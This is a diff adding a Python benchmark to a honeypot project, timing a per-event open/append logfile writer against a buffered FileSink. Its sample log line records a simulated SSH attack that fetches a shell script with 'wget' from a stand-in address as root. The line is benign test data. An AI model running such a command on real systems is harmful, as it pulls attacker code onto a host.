@@ -0,0 +1,49 @@
+"""
+Benchmark for the logfile writer.
+
+Compares the former per-event open/append/close of `log.write` with the
+buffered `FileSink`, measuring events per second on the calling thread
+(i.e. the time the reactor would be blocked).
+
+Usage: python3 -m benchmarks.log_write [events]
+"""
+from honeygrove.core.LogSink import FileSink
+
+import os
+import sys
+import tempfile
+import time
+
+LINE = ('2019-08-07T08:02:22.123456 [REQUEST] SSH, 192.0.2.1:50123->0.0.0.0:22, '
+        'Lat: --, Lon: --, wget http://198.51.100.7/x.sh, root, None')
+
+
+def open_append(path, events):
+    for _ in range(events):
+        with open(path, 'a') as fp:
+            fp.write(LINE + '\n')
+
+
+def file_sink(path, events):
+    sink = FileSink(path)
+    for _ in range(events):
+        sink.put(LINE)
+    return sink
+
+
+def run(name, func, path, events):
+    start = time.perf_counter()
+    result = func(path, events)
+    elapsed = time.perf_counter() - start
+    print("{:<12} {:>12.0f} events/s (caller)".format(name, events / elapsed))
+    if result is not None:
+        result.close()
+        elapsed = time.perf_counter() - start
+        print("{:<12} {:>12.0f} events/s (including final flush)".format("", events / elapsed))
+
+
+if __name__ == '__main__':
+    events = int(sys.argv[1]) if len(sys.argv) > 1 else 100000
+    with tempfile.TemporaryDirectory() as tmp:
+        run("open/append", open_append, os.path.join(tmp, "before.txt"), events)
+        run("FileSink", file_sink, os.path.join(tmp, "after.txt"), events)